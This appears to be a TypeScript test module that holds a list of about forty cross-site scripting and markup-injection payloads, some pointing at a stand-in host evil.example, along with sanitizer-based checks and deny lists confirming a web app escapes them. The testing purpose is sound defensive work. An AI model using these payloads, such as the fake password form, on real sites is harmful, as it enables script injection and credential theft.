// Texts that try to become markup, scripts or URLs, and checks of what became of them.

import assert from "node:assert/strict";
import sanitizeHtml from "sanitize-html";

export const PAYLOADS = [
  `"><b id=pwn onclick=pwn()>`,
  `'><b id=pwn onclick=pwn()>`,
  "`><b id=pwn onclick=pwn()>",
  "<script>pwn()</script>",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "<img src=x onerror=pwn()>",
  "<svg/onload=pwn()>",
  "</title><b id=pwn>",
  "</style></textarea></script><b id=pwn>",
  "--><b id=pwn>",
  "]]><b id=pwn>",
  "<!--<b id=pwn>-->",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "&#60;b id=pwn&#62;",
  "&amp;lt;b id=pwn&amp;gt;",
  `<a href="jav&#x09;ascript:pwn()">x</a>`,
  `<a href=" &#14; javascript:pwn()">x</a>`,
  `<a href="javascript&colon;pwn()">x</a>`,
  `<a href="data:text/html,<b id=pwn>">x</a>`,
  `<p style="position:fixed;inset:0" class="pwn" id=pwn>x</p>`,
  "<style>@import '//evil.example'</style>",
  "<base href=//evil.example>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  `<iframe srcdoc="<script>pwn()</script>"></iframe>`,
  "<form action=//evil.example><input name=password></form>",
  `<noscript><p title="</noscript><img src=x onerror=pwn()>">`,
  "<template><b id=pwn></template>",
  `<svg></p><style><a id="</style><img src=1 onerror=pwn()>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">`,
  "<video><source onerror=pwn()>",
  "<b <script>pwn()</script>0>",
  "<b/id=pwn/onclick=pwn()>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwn()</x:script>",
  "<object data=//evil.example>",
  "<details open ontoggle=pwn()>",
  "<a href=https://a.test onmouseover=pwn() id=pwn style=x>y</a>",
  "\u202e<b id=pwn>\u2066",
  "<\u0000script>pwn()</script>",
  "<ſcript>pwn()</ſcript>",
];
/** All payloads in one text. */
export const ALL = PAYLOADS.join(" ");

const FORBIDDEN = new Set([
  "script",
  "style",
  "iframe",
  "object",
  "embed",
  "math",
  "base",
  "template",
  "video",
  "audio",
  "source",
  "noscript",
  "mglyph",
]);
const URLS = new Set([
  "href",
  "src",
  "action",
  "content",
  "poster",
  "data",
  "srcset",
  "formaction",
]);

/** Whether a script is our own: that of the web client, or its data, which browsers do not run. */
const isOwnScript = (tag: string, { type, src, id, ...rest }: Record<string, string>): boolean =>
  tag === "script" &&
  Object.keys(rest).length === 0 &&
  (src === undefined
    ? type === "application/json" && id === "state"
    : type === "module" && id === undefined && /^\/web\/assets\/client-[\w-]+\.js$/.test(src));

/** Returns a page without our own scripts, in which no other text may open a script. */
export const withoutOwnScripts = (html: string): string =>
  html
    .replace(/<script type="module" src="\/web\/assets\/client-[\w-]+\.js"><\/script>/, "")
    .replace(/<script type="application\/json" id="state">[^<]*<\/script>/, "");

/** Checks every start tag that a browser would see for what only an attacker would have written. */
export const assertHarmless = (html: string, where: string, isPage: boolean): void => {
  const look = (tag: string, attributes: Record<string, string>) => {
    const shown = `${where}: <${tag} ${JSON.stringify(attributes)}>`;
    assert.ok(!FORBIDDEN.has(tag) || (isPage && isOwnScript(tag, attributes)), shown);
    assert.ok(
      isPage || !["svg", "details", "img", "form", "input", "link", "meta"].includes(tag),
      shown,
    );
    for (const [name, value] of Object.entries(attributes)) {
      assert.ok(!/^on|^style$|^srcdoc$|^http-equiv$/.test(name) && value !== "pwn", shown);
      if (URLS.has(name) && name !== "content")
        assert.match(value, /^(?:https?:\/\/|\/(?!\/)|[#?]|acct:|$)/, shown);
      if (name === "href") assert.doesNotMatch(value, /evil\.example/, shown);
    }
    return { tagName: tag, attribs: attributes };
  };
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    transformTags: { "*": look },
  });
};

/**
 * Checks markup with more in it than what others wrote (mails, feeds, heads): none of the payloads' tags may be in it.
 */
export const assertEscaped = (markup: string, where: string): void => {
  const look = (tag: string, attributes: Record<string, string>) => {
    const shown = `${where}: <${tag} ${JSON.stringify(attributes)}>`;
    assert.ok(!["script", "object", "math"].includes(tag) || isOwnScript(tag, attributes), shown);
    for (const [name, value] of Object.entries(attributes)) {
      assert.ok(!/^on|^srcdoc$|^http-equiv$/.test(name) && value !== "pwn", shown);
      if (URLS.has(name) && name !== "content")
        assert.doesNotMatch(value, /^\s*(?:javascript|data):|^[^"]*\/\/evil\.example/i, shown);
    }
    return { tagName: tag, attribs: attributes };
  };
  sanitizeHtml(markup, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    transformTags: { "*": look },
  });
};
